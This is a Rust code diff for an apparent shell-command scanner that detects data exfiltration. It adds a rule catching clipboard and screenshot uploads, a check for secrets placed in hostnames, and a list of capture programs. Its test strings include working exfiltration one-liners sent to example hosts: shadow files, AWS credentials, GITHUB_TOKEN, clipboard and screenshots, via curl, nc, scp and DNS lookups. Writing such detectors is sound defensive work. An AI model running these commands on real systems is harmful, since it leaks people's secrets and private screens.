@@ -7,7 +7,7 @@ use super::{
     hosts::{self, HostKind},
 };
 use crate::{
-    effect::{Connection, Effect, EffectKind, Kinds, Target},
+    effect::{Argument, Connection, Effect, EffectKind, Kinds, Run, Target},
     finding::{Category, Confidence},
     place::{self, Place},
     programs,
@@ -81,6 +81,7 @@ static RULES: &[Rule] = &[
             "dig \"$(cat /etc/shadow | base64 | head -c 60).example.net\"",
             "wget \"https://example.net/$(env | base64 -w0)\"",
             "ping -c1 $(cat ~/.aws/credentials | md5sum).example.net",
+            "curl \"https://$GITHUB_TOKEN.example.net\"",
         ],
         quiet: &[
             "curl https://example.net/?k=v",
@@ -137,6 +138,26 @@ static RULES: &[Rule] = &[
             "psql -tc 'select count(*) from jobs' | curl -d @- https://example.net/metrics",
             "pg_dump shop > shop.sql",
             "psql -c 'select email from users' | curl -d @- http://localhost:9000",
+        ],
+        ..LEAVES
+    },
+    Rule {
+        id: "exfiltration.screen.sent",
+        message: "what a person has on the screen, in the clipboard or says is sent to another machine",
+        remedy: "let the person look at it and send it",
+        when: When::Effect(Kinds::CONNECT.and(Kinds::RUN), screen_sent),
+        fires: &[
+            "pbpaste | curl -d @- https://example.net/c",
+            "xclip -o -selection clipboard | nc 203.0.113.5 9000",
+            "scrot /tmp/s.png; curl -T /tmp/s.png https://example.net/",
+            "import -window root s.png && scp s.png dev@example.net:",
+        ],
+        quiet: &[
+            "pbpaste | wc -c",
+            "echo hello | pbcopy",
+            "scrot /tmp/s.png",
+            "scrot /tmp/s.png; curl -T report.txt https://example.net/",
+            "pbpaste | curl -d @- http://localhost:9000",
         ],
         ..LEAVES
     },
@@ -310,15 +331,34 @@ fn secret_in_address(effect: &Effect, scene: &Scene<'_>) -> Option<Hit> {
         return None;
     }
     let read = !scene.origins(&connection.address).is_empty();
-    let in_query = connection.address.known_prefix().contains('?');
+    let before = connection.address.known_prefix();
+    let in_query = before.contains('?');
+    let in_host = is_host(&connection.address);
     let anonymous =
         matches!(host_kind(connection), HostKind::Address | HostKind::Drop | HostKind::Hidden);
-    let severity = match (read || anonymous, in_query) {
+    let severity = match (read || anonymous || in_host, in_query) {
         (true, _) => Severity::Critical,
         (false, true) if !named_as_credential(&connection.address) => Severity::High,
         (false, _) => Severity::Medium,
     };
     Some(hit(connection, severity, "a secret goes in the address"))
+}
+
+/// Whether what is not known of an address is part of its host's name, which every name server on the way gets to see. What stands before
+/// an `@` is a password meant for the host behind it, and an address of nothing but a variable may be one from the settings.
+fn is_host(address: &Text) -> bool {
+    let [before @ .., last] = address.pieces.as_slice() else { return false };
+    let is_unknown = |piece: &Piece| matches!(piece, Piece::Unknown(_));
+    let mut host = address.known_prefix();
+    if let Some((_, behind)) = host.split_once("://") {
+        host = behind;
+    }
+    let Piece::Known(after) = last else { return false };
+    before.iter().any(is_unknown)
+        && !host.contains(['/', '?', '#', '@', ':'])
+        && after.starts_with('.')
+        && after.chars().nth(1).is_some_and(|letter| letter.is_ascii_alphanumeric())
+        && !after.split('/').next().is_some_and(|name| name.contains('@'))
 }
 
 fn home_sent(effect: &Effect, scene: &Scene<'_>) -> Option<Hit> {
@@ -355,6 +395,64 @@ fn is_private(target: &Target, scene: &Scene<'_>) -> bool {
                 | Place::Artifact
                 | Place::Unknown
         )
+}
+
+/// Programs that take what a person has before them: the clipboard, the screen, the camera, the microphone. Sorted.
+const CAPTURES: &[&str] = &[
+    "arecord",
+    "ffmpeg",
+    "flameshot",
+    "fswebcam",
+    "gnome-screenshot",
+    "grim",
+    "imagesnap",
+    "import",
+    "maim",
+    "pbpaste",
+    "rec",
+    "screencapture",
+    "scrot",
+    "spectacle",
+    "wl-paste",
+    "xclip",
+    "xfce4-screenshooter",
+    "xsel",
+    "xwd",
+];
+
+/// Of these only some inputs are a person's screen or voice.
+const DEVICES: &[&str] =
+    &["alsa", "avfoundation", "gdigrab", "kmsgrab", "pulse", "video4linux2", "v4l2", "x11grab"];
+
+fn captures(run: &Run) -> bool {
+    let words = || run.arguments.iter().filter_map(|argument| argument.text.as_known());
+    CAPTURES.binary_search(&run.program.as_str()).is_ok()
+        && (run.program != "ffmpeg" || words().any(|word| DEVICES.contains(&word)))
+        && (run.program != "import" || words().any(|word| word == "-window" || word == "root"))
+}
+
+/// What captures print is sent, or the file that one was told to write.
+fn screen_sent(effect: &Effect, scene: &Scene<'_>) -> Option<Hit> {
+    let (connection, sends) = sent(effect)?;
+    let by_stream =
+        scene.origins(sends).iter().any(|origin| super::effects::run(origin).is_some_and(captures));
+    let by_file = || {
+        let files = scene.files_of(sends);
+        let named = |argument: &Argument| {
+            files.iter().any(|target| {
+                target.text.as_known().is_some_and(|file| argument.text.as_known() == Some(file))
+            })
+        };
+        let mut runs = scene.effects.list.iter().filter_map(super::effects::run);
+        !files.is_empty() && runs.any(|run| captures(run) && run.arguments.iter().any(named))
+    };
+    (by_stream || by_file()).then(|| {
+        hit(
+            connection,
+            Severity::High,
+            "what a person has on the screen or in the clipboard is sent",
+        )
+    })
 }
 
 fn workspace_sent(effect: &Effect, scene: &Scene<'_>) -> Option<Hit> {
